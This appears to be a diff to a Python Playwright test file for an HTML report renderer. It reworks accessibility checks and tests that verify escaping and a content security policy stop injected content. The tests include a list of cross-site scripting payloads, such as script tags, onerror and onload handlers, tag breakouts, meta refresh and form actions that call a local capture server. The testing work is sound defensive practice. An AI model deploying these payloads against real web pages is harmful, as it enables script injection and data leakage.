@@ -36,6 +36,14 @@ def written(seeds_brief, seeds, tmp_path_factory) -> Path:
     return path
 
 
+@pytest.fixture
+def small(tmp_path) -> Path:
+    """The page of a brief that has a bit of everything, withheld items and failures among it."""
+    path = tmp_path / "brief.html"
+    path.write_text(render(BRIEF, "html", articles=ARTICLES), "utf-8")
+    return path
+
+
 @pytest.fixture(scope="module")
 def chromium(written):
     """A browser; made after the brief, since an event loop of Playwright's own runs as long as it is there."""
@@ -197,15 +205,24 @@ def test_without_script_the_brief_can_be_read_and_its_links_followed(open_page, 
     assert page.locator(":target").bounding_box()["y"] < WIDE["height"]
 
 
-@pytest.mark.parametrize(("viewport", "scheme"), [(WIDE, "light"), (NARROW, "dark")], ids=["wide", "narrow"])
-@pytest.mark.parametrize("state", ["opened", "unfolded", "reading", "asking", "filtering"])
-def test_axe_finds_nothing_serious(open_page, written, viewport, scheme, state):
+@pytest.mark.parametrize(
+    ("viewport", "scheme", "state"),
+    [
+        (WIDE, "light", "opened"),
+        (NARROW, "dark", "opened"),
+        (WIDE, "dark", "unfolded"),
+        (WIDE, "dark", "asking"),
+        (NARROW, "light", "reading"),
+        (NARROW, "light", "filtering"),
+    ],
+)
+def test_axe_finds_nothing_serious(open_page, written, small, viewport, scheme, state):
     """The rules of axe-core (WCAG 2 A and AA among them) hold in every state of the page."""
-    page = open_page(written, viewport, color_scheme=scheme, bypass_csp=True)
+    page = open_page(written if state == "opened" else small, viewport, color_scheme=scheme, bypass_csp=True)
     if state == "unfolded":
         page.evaluate("document.querySelectorAll('main details').forEach((each) => (each.open = true))")
     if state in {"reading", "asking"}:
-        page.locator("#bottom-line .quote").nth(4).click()
+        page.locator("#bottom-line .quote").nth(1).click()
         page.wait_for_selector("mark.on")
     if state == "asking":
         page.keyboard.press("Enter")
@@ -229,8 +246,8 @@ def test_on_paper_stand_the_whole_brief_and_the_articles(open_page, written, see
 
 
 # What an attacker may put into an article, or get a model to answer. Each would call home, or say so in the window.
-def _attacks(home: str) -> tuple[str, ...]:
-    return (
+def _attacks(home: str) -> str:
+    return "\n".join((
         f"<script>window.pwned = 1; fetch('{home}/script')</script>",
         f"<img src='{home}/image' onerror='window.pwned = 1'><svg onload='window.pwned = 1'>",
         f"</script></style></title><script src='{home}/late'></script>",
@@ -240,7 +257,7 @@ def _attacks(home: str) -> tuple[str, ...]:
         f"<link rel='stylesheet' href='{home}/sheet'><meta http-equiv='refresh' content='0; url={home}/refresh'>",
         f"<form action='{home}/form'><input autofocus onfocus='window.pwned = 1'></form><base href='{home}/'>",
         "\N{RIGHT-TO-LEFT OVERRIDE}31\N{POP DIRECTIONAL FORMATTING} \u2067 {{ 7 * 7 }} {% raw %} &lt;script&gt; \x0b \x1b[2J",
-    )
+    ))  # fmt: skip
 
 
 @contextmanager
@@ -268,23 +285,17 @@ def _home() -> Iterator[tuple[str, list[str]]]:
         server.server_close()
 
 
-def _hostile(attack):
-    """Return the builder's brief and articles with an attack in every text, in the file names and in the articles."""
-    articles = [replace(each, text=f"{each.text}\n{attack}\n") for each in ARTICLES]
-    return _with_texts(BRIEF, attack), articles
-
-
-@pytest.mark.parametrize("number", range(9))
-def test_nothing_of_an_article_or_an_answer_runs_or_is_requested(open_page, tmp_path, number):
-    """With an attack in every text, every link followed and everything unfolded, nothing runs and nobody is asked."""
+def test_nothing_of_an_article_or_an_answer_runs_or_is_requested(open_page, tmp_path):
+    """With attacks in every text, every link followed and everything unfolded, nothing runs and nobody is asked."""
     with _home() as (home, asked):
-        brief, articles = _hostile(_attacks(home)[number])
+        attacks = _attacks(home)
+        articles = [replace(each, text=f"{each.text}\n{attacks}\n") for each in ARTICLES]
         path = tmp_path / "brief.html"
-        path.write_text(render(brief, "html", articles=articles), "utf-8")
+        path.write_text(render(_with_texts(BRIEF, attacks), "html", articles=articles), "utf-8")
         page = open_page(path)
         page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
         page.evaluate("document.querySelectorAll('main a, mark').forEach((each) => each.click())")
-        page.wait_for_timeout(100)
+        page.wait_for_timeout(200)
         assert page.evaluate("window.pwned") is None
         assert page.evaluate("document.scripts.length + document.styleSheets.length") == 2
         assert page.evaluate("document.images.length + frames.length") == 0
@@ -292,16 +303,17 @@ def test_nothing_of_an_article_or_an_answer_runs_or_is_requested(open_page, tmp_
         assert asked == []
 
 
-@pytest.mark.parametrize("number", range(6))
-def test_the_policy_stops_what_would_get_past_the_escaping(chromium, tmp_path, number):
-    """Even an attack that stands in the page as HTML neither runs nor reaches anyone."""
+def test_the_policy_stops_what_would_get_past_the_escaping(chromium, tmp_path):
+    """Even attacks that stand in the page as HTML neither run nor reach anyone."""
     with _home() as (home, asked):
         path = tmp_path / "brief.html"
-        path.write_text(render(BRIEF, "html", articles=ARTICLES).replace("</h1>", f"</h1>{_attacks(home)[number]}"))
+        attacks = _attacks(home).replace("http-equiv", "name")  # no policy in a page stops its refresh
+        path.write_text(render(BRIEF, "html", articles=ARTICLES).replace("</h1>", f"</h1>{attacks}"))
         page = chromium.new_page()
         page.goto(path.as_uri())
-        page.evaluate("document.querySelectorAll('main a').forEach((each) => each.click())")
-        page.wait_for_timeout(100)
+        page.evaluate("document.querySelectorAll('a').forEach((each) => each.dispatchEvent(new MouseEvent('click')))")
+        page.evaluate("document.querySelectorAll('form[action]').forEach((each) => each.requestSubmit())")
+        page.wait_for_timeout(200)
         assert page.evaluate("window.pwned") is None
         assert asked == []
         page.context.close()
